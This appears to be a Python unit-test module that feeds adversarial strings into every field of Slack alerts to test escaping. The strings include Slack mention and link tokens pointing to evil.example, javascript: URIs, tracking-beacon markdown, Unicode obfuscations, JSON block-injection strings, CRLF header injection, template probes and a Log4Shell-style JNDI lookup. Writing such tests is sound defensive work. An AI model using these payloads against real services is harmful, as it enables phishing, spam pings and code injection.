"""Strings that would ring, link or lie in Slack, and messages that hold one in every field of others."""

from __future__ import annotations

from dataclasses import replace

from alerts.alert import Alert, Hit, Kind, Message, Reason, Sibling
from alerts.standing import Standing
from tests.unit.slackcases import SLACK, alert_of, delivery

OURS = "https://outlet.example/en/1"
STRINGS = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!channel|channel>",
    "<!subteam^S0123ABCD>",
    "<!subteam^S0123ABCD|@duty>",
    "<!date^1392734382^{date} at {time}^https://evil.example/|now>",
    "<@U0123ABCD>",
    "<@W0123ABCD|boss>",
    "<#C0123ABCD>",
    "<#C0123ABCD|general>",
    "<https://evil.example/>",
    "<https://evil.example/|Reuters: read the statement>",
    "<mailto:duty@evil.example|write us>",
    "<tel:+9647000000|call>",
    "<slack://open?team=T1|open>",
    "<javascript:alert(1)|x>",
    "https://evil.example/login",
    "evil.example/login",
    "[statement](https://evil.example/)",
    "![x](https://evil.example/beacon.png)",
    "@channel attack",
    "@here @everyone",
    "*bold* _it_ ~gone~ `code`",
    "```\n<!channel>\n```",
    "> quoted\n>>> all below",
    ":rotating_light: :fire:",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "\u003c!channel\u003e",
    "<\u200b!channel>",
    "<!chan\u00adnel>",
    "＜!channel＞",
    "\u202e>lennahc!<",
    "<!channel>" * 40,
    'x","type":"mrkdwn","text":"<!channel>',
    '"}]},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}',
    "{{7*7}} ${jndi:ldap://evil.example/a} {0.__class__} %(x)s",
    "\r\nX-Slack-Retry: 1\r\n\r\n<!channel>",
    "<<!channel>>",
    "<!channel",
    "صاروخ <!channel> على قاعدة",
    "موشک <https://evil.example/|خبر> بر پایگاه",
]


def everywhere(evil: str) -> Alert:
    """Give an alert with a string in each field that others, or the rules, fill."""
    told = alert_of("en")
    cause = replace(
        told.causes[0],
        title=evil,
        pir=evil,
        contact=evil,
        rule=evil,
        hits=(Hit(evil, evil, "body", 0, len(evil), evil),),
    )
    article = replace(
        told.article, title=evil, text=f"{evil} {evil}", outlet=evil, lang=evil, author=evil, summary=evil
    )
    return replace(
        told,
        article=article,
        causes=(cause,),
        outlets=(evil, f"{evil}2"),
        changes=(evil,),
        standing=Standing((evil,), "B"),
        siblings=(Sibling("s1", evil, evil),),
        glosses=(evil,),
    )


def messages(evil: str) -> list[Message]:
    told = everywhere(evil)
    notice = {"title": evil, "body": f"{evil}\n{evil}"}
    return [
        SLACK.alert(delivery(id="d1", notes=(evil,)), told, "UTC"),
        SLACK.alert(delivery(Kind.UPDATE, Reason.UPDATED, id="d2"), told, "UTC"),
        SLACK.digest(delivery(Kind.DIGEST, Reason.STALE, id="d3", notes=(evil,)), [told, told], "UTC"),
        SLACK.notice(delivery(Kind.NOTICE, Reason.SYSTEM, id="d4", payload=notice)),
        Message(evil, evil, key="d5"),  # as a service without blocks would be sent it
    ]
